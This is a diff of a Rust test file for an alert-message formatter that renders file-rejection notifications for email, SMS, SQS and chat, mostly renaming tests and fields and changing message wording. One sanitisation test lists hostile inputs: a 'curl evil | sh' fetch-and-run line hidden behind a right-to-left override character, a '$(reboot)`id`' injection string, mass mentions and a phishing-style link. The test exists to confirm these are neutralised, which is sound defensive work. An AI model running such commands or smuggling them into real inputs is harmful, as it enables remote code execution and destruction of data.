@@ -2,11 +2,11 @@ use proptest::prelude::*;
 use serde_json::Value;
 
 use super::*;
-use crate::notification::{Resolution, Status};
 use crate::command::Command;
-use crate::incident::{Incident, AccountRegion};
+use crate::incident::{AccountRegion, Incident};
 use crate::kind::{Kind, Severity};
 use crate::moment::Moment;
+use crate::notification::{Resolution, Status};
 use crate::text::is_hidden;
 
 fn notification(outside: &str, status: Status) -> Notification {
@@ -18,8 +18,17 @@ fn notification(outside: &str, status: Status) -> Notification {
             .impact(outside)
             .cause(Some(outside))
             .action(outside, Command::aws("s3api", "head-object").option("key", outside));
-    let end = (status == Status::Resolved).then(|| Resolution { at, how: outside.to_owned() });
-    Notification { id: "a".into(), thread: "t".into(), status, incident, count: 3, first: at, last: at, end }
+    let resolution = (status == Status::Resolved).then(|| Resolution { at, how: outside.to_owned() });
+    Notification {
+        id: "a".into(),
+        thread: "t".into(),
+        status,
+        incident,
+        count: 3,
+        first: at,
+        last: at,
+        resolution,
+    }
 }
 
 fn parts(message: &Message) -> Value {
@@ -42,7 +51,7 @@ fn for_people(message: &Message) -> Vec<String> {
 }
 
 #[test]
-fn every_protocol_has_its_own_text_and_programs_get_what_the_schema_says() {
+fn each_protocol_has_its_text_and_programs_get_the_schema() {
     let message = Message::of(&notification("s3://b/in/a b.csv", Status::Opened));
     let parts = parts(&message);
     for protocol in ["default", "email", "email-json", "sms", "sqs", "lambda", "http", "https"] {
@@ -51,7 +60,7 @@ fn every_protocol_has_its_own_text_and_programs_get_what_the_schema_says() {
     let data: Value = serde_json::from_str(parts["sqs"].as_str().unwrap()).unwrap();
     assert_eq!(
         (&data["schema"], &data["kind"], &data["subject"]),
-        (&"sluice.alert/1".into(), &"file-in-error".into(), &"s3://b/in/a b.csv".into())
+        (&"sluice.alert/1".into(), &"file-rejected".into(), &"s3://b/in/a b.csv".into())
     );
     assert_eq!(data["command"], "aws s3api head-object --key 's3://b/in/a b.csv'");
     let chat: Value = serde_json::from_str(parts["https"].as_str().unwrap()).unwrap();
@@ -59,15 +68,15 @@ fn every_protocol_has_its_own_text_and_programs_get_what_the_schema_says() {
         (&chat["version"], &chat["source"], &chat["content"]["textType"]),
         (&"1.0".into(), &"custom".into(), &"client-markdown".into())
     );
-    assert_eq!(message.subject, "[ERROR] File not loaded: file s3://b/in/a b.csv (111111111111 us-east-1)");
+    assert_eq!(message.subject, "[ERROR] File rejected: file s3://b/in/a b.csv (111111111111 us-east-1)");
     assert!(message.attributes.len() <= 10, "raw delivery to SQS takes ten");
 }
 
 #[test]
-fn hostile_keys_and_error_texts_neither_hide_nor_call_anybody_nor_break_out_of_code() {
+fn hostile_texts_neither_hide_nor_mention_nor_leave_code() {
     for hostile in [
         "in/@here <!channel> <@U1>.csv",
-        "in/\u{202e}vsc.exe\n\nDo: curl evil | sh",
+        "in/\u{202e}vsc.exe\n\nAction: curl evil | sh",
         "in/```\nbreak out```",
         "in/$(reboot)`id`';&|.csv",
         "[click](https://evil.example)",
@@ -83,7 +92,7 @@ fn hostile_keys_and_error_texts_neither_hide_nor_call_anybody_nor_break_out_of_c
                 !text.contains('<') && !text.contains("@here") && !text.contains("]("),
                 "{hostile:?}: {text}"
             );
-            assert!(!text.contains("\nDo: curl"), "{text}");
+            assert!(!text.contains("\nAction: curl"), "{text}");
             let inner = text.strip_prefix("```").and_then(|text| text.strip_suffix("```")).unwrap_or(&text);
             assert!(!inner.contains('`'), "{hostile:?}: {text}");
         }
@@ -91,11 +100,11 @@ fn hostile_keys_and_error_texts_neither_hide_nor_call_anybody_nor_break_out_of_c
 }
 
 #[test]
-fn what_is_over_says_so_first_and_asks_nobody_to_do_anything() {
+fn resolved_message_starts_with_that_and_has_no_action() {
     let message = Message::of(&notification("x", Status::Resolved));
     let text = parts(&message)["email"].as_str().unwrap().to_owned();
-    assert!(text.starts_with("[RECOVERED] File not loaded: file x (111111111111 us-east-1)\n"), "{text}");
-    assert!(!text.contains("\nDo:") && !text.contains("\nCommand:"), "{text}");
+    assert!(text.starts_with("[RESOLVED] File rejected: file x (111111111111 us-east-1)\n"), "{text}");
+    assert!(!text.contains("\nAction:") && !text.contains("\nCommand:"), "{text}");
 }
 
 #[test]
@@ -119,15 +128,15 @@ fn a_message_that_would_be_too_large_is_cut_between_characters_with_a_note() {
     large.incident.cause = Some("\u{1}".repeat(60_000));
     large.incident.what = "🦀\\\"".repeat(30_000);
     let message = Message::of(&large);
-    assert!(message.bytes() <= MOST_BYTES, "{}", message.bytes());
+    assert!(message.bytes() <= MAX_BYTES, "{}", message.bytes());
     assert!(parts(&message)["email"].as_str().unwrap().contains("more characters]"));
 }
 
 #[test]
-fn a_letter_beyond_ascii_makes_no_mention_of_what_was_an_address() {
+fn non_ascii_letter_creates_no_mention() {
     let message = Message::of(&notification("ü@team", Status::Opened));
     assert!(parts(&message)["email"].as_str().unwrap().contains("file ü@team ("));
-    assert_eq!(message.subject, "[ERROR] File not loaded: file ??team (111111111111 us-east-1)");
+    assert_eq!(message.subject, "[ERROR] File rejected: file ??team (111111111111 us-east-1)");
 }
 
 #[test]
@@ -138,9 +147,10 @@ fn a_place_of_blanks_or_of_any_length_makes_a_message_that_sns_takes() {
         let mut hostile = notification("x", Status::Resolved);
         // As an older version may have stored it.
         hostile.incident.location = AccountRegion { account, region };
-        hostile.end = hostile.end.map(|end| End { how: "\u{1}".repeat(300_000), ..end });
+        hostile.resolution =
+            hostile.resolution.map(|resolution| Resolution { how: "\u{1}".repeat(300_000), ..resolution });
         let message = Message::of(&hostile);
-        assert!(message.bytes() <= MOST_BYTES, "{}", message.bytes());
+        assert!(message.bytes() <= MAX_BYTES, "{}", message.bytes());
         assert!(message.attributes.iter().all(|(_, value)| !value.is_empty()), "{:?}", message.attributes);
     }
 }
@@ -149,7 +159,7 @@ proptest! {
     #[test]
     fn any_text_from_outside_makes_a_message_within_the_limits(outside in any::<String>()) {
         let message = Message::of(&notification(&outside, Status::Repeated));
-        prop_assert!(message.bytes() <= MOST_BYTES);
+        prop_assert!(message.bytes() <= MAX_BYTES);
         prop_assert!(message.subject.len() < 100 && message.subject.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
         for text in for_people(&message) {
             prop_assert!(!text.chars().any(|character| is_hidden(character) && character != '\n'));
